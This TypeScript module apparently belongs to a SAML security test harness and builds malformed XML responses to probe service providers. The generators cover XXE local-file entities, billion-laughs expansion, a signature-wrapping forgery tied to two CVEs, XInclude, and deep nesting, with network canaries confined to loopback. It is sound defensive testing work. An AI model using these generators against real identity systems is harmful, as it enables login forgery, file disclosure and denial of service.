/**
 * @module XML parsing mutations (attacks.md §E). Raw text edits for what a DOM cannot hold — a DTD and
 * entity references, two root elements, content after the root, the XML declaration, duplicate
 * attributes, a bare `&`, 10 000-deep nesting (a DOM round-trip would itself recurse that deep) — and
 * a few DOM edits (XInclude, oversized value). Network canaries point only at 127.0.0.1.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { parseXml, serializeXml } from '../../mock-idp/util/xml.js';
import type { DomMutation, MutationContext, TextMutation } from '../types.js';
import { editText } from './basic.js';
import { one, signatureOf } from './dom.js';
import { TAIL } from './c14n.js';
import { swapIn } from './xsw.js';

/**
 * Where XXE and XInclude payloads point: loopback only, the discard port, so a vulnerable SP's fetch
 * fails fast and never leaves the host. (A listener recording hits is an engine feature to come.)
 */
export const LOOPBACK_CANARY = 'http://127.0.0.1:9/samlspec-canary';

function text(name: string, edit: (xml: string, ctx: MutationContext) => string): TextMutation {
  return editText(name, edit);
}

/** Inserts `prolog` before the root element (after an XML declaration, if any). */
function beforeRoot(xml: string, prolog: string): string {
  const declaration = /^\s*<\?xml[^>]*\?>/.exec(xml)?.[0] ?? '';
  return `${declaration}${prolog}${xml.slice(declaration.length)}`;
}

function rootName(xml: string): string {
  const name = /^(?:\s*<\?xml[^>]*\?>)?\s*<([\w:.-]+)/.exec(xml)?.[1];
  if (!name) throw new Error('no root element found');
  return name;
}

/** Replaces the text content of the first `<element>` (any prefix) that holds only text. */
function editContent(xml: string, element: string, edit: (content: string) => string): string {
  const pattern = new RegExp(`(<(?:[\\w.-]+:)?${element}\\b[^>]*>)([^<]*)(</(?:[\\w.-]+:)?${element}>)`);
  if (!pattern.test(xml)) throw new Error(`no <${element}> with text content found`);
  return xml.replace(
    pattern,
    (_m, open: string, content: string, close: string) => `${open}${edit(content)}${close}`,
  );
}

/** XML-01/02/03: a DOCTYPE for the root with this internal subset. */
export function withDoctype(name: string, subset: string): TextMutation {
  return text(name, (xml) => beforeRoot(xml, `<!DOCTYPE ${rootName(xml)} [${subset}]>`));
}

/** XML-02b: a general external entity (a local file) replaces the text of the first `<element>`. */
export function externalEntityIn(element: string, systemId: string): TextMutation {
  return text(`external entity ${systemId} in <${element}>`, (xml) =>
    beforeRoot(
      editContent(xml, element, () => '&ext;'),
      `<!DOCTYPE ${rootName(xml)} [<!ENTITY ext SYSTEM "${systemId}">]>`,
    ),
  );
}

/** XML-03: `levels` nested entities of `fanout` references each (fanout^levels × "lol"), in `<element>`. */
export function entityExpansion(element: string, levels = 10, fanout = 10): TextMutation {
  const defs = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i < levels; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(fanout)}">`);
  return text(`entity expansion ${fanout}^${levels} in <${element}>`, (xml) =>
    beforeRoot(
      editContent(xml, element, () => `&lol${levels - 1};`),
      `<!DOCTYPE ${rootName(xml)} [${defs.join('')}]>`,
    ),
  );
}

/** XML-04: the signed `${victim}.evil.test` is delivered as `${victim}&t;` with `<!ENTITY t ".evil.test">`. */
export function entitySplicedTail(): TextMutation {
  return text('TAIL spliced through an internal entity', (xml, ctx) => {
    const signed = `>${ctx.identities.victim}${TAIL}<`;
    if (!xml.includes(signed)) throw new Error(`"${signed}" does not occur in the response`);
    const spliced = xml.split(signed).join(`>${ctx.identities.victim}&t;<`);
    return beforeRoot(spliced, `<!DOCTYPE ${rootName(xml)} [<!ENTITY t "${TAIL}">]>`);
  });
}

/**
 * XML-05 (CVE-2022-39353, CVE-2022-39299): two top-level elements — first the IdP-signed Assertion
 * of the baseline login, then the same Response with that Assertion unsigned and SWAPped.
 */
export function signedAssertionThenForgedResponse(): TextMutation {
  return text('signed Assertion root followed by a forged Response root', (xml, ctx) => {
    const doc = parseXml(xml);
    const assertion = one(doc, 'Assertion');
    const signature = signatureOf(assertion);
    if (!signature) throw new Error('the Assertion is not signed');
    const signed = serializeXml(assertion);
    assertion.removeChild(signature);
    swapIn(doc.documentElement!, ctx);
    return `${signed}${serializeXml(doc)}`;
  });
}

/** XML-06: something after the root element. */
export function appendAfterRoot(name: string, trailer: string): TextMutation {
  return text(name, (xml) => `${xml}${trailer}`);
}

/** XML-08: an XML declaration naming an encoding other than the UTF-8 actually sent. */
export function declareEncoding(encoding: string): TextMutation {
  return text(`declare encoding ${encoding}`, (xml) => {
    if (/^\s*<\?xml/.test(xml)) throw new Error('the response already has an XML declaration');
    return `<?xml version="1.0" encoding="${encoding}"?>${xml}`;
  });
}

/** XML-09: the first `<element>` start tag gets `attribute` a second time. */
export function duplicateAttribute(element: string, attribute: string, value: string): TextMutation {
  return text(`duplicate @${attribute} on <${element}>`, (xml) => {
    const pattern = new RegExp(`(<(?:[\\w.-]+:)?${element}\\b[^>]*?\\s${attribute}="[^"]*")`);
    if (!pattern.test(xml)) throw new Error(`no <${element}> with @${attribute}`);
    return xml.replace(pattern, `$1 ${attribute}="${value}"`);
  });
}

/** XML-09 / XML-10: raw markup or characters appended inside the first `<element>`'s text. */
export function rawInside(name: string, element: string, raw: string): TextMutation {
  return text(name, (xml) => editContent(xml, element, (content) => `${content}${raw}`));
}

/** XML-10: `depth` nested elements inside the first `<element>`. */
export function deepNesting(element: string, depth: number): TextMutation {
  return rawInside(
    `${depth}-deep nesting in <${element}>`,
    element,
    `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`,
  );
}

function dom(name: string, stage: DomMutation['stage'], apply: (doc: Document) => void): DomMutation {
  return { name, stage, apply };
}

/** XML-07: an XInclude of the loopback canary inside the first `<element>`, signed by the IdP. */
export function xincludeIn(element: string): DomMutation {
  return dom(`XInclude of ${LOOPBACK_CANARY} in <${element}>`, 'before-sign', (doc) => {
    const include = doc.createElementNS('http://www.w3.org/2001/XInclude', 'xi:include');
    include.setAttribute('href', LOOPBACK_CANARY);
    include.setAttribute('parse', 'text');
    one(doc, element).appendChild(include);
  });
}

/** XML-10: an extra Attribute whose value is `bytes` long (kept under the ~1 MB the harness allows). */
export function oversizedAttribute(bytes: number): DomMutation {
  return dom(`${bytes}-byte AttributeValue`, 'after-sign', (doc) => {
    const statement = one(doc, 'AttributeStatement');
    const ns = statement.namespaceURI;
    const attribute = doc.createElementNS(ns, 'Attribute') as Element;
    attribute.setAttribute('Name', 'urn:samlspec:padding');
    const value = doc.createElementNS(ns, 'AttributeValue');
    value.appendChild(doc.createTextNode('A'.repeat(bytes)));
    attribute.appendChild(value);
    statement.appendChild(attribute);
  });
}
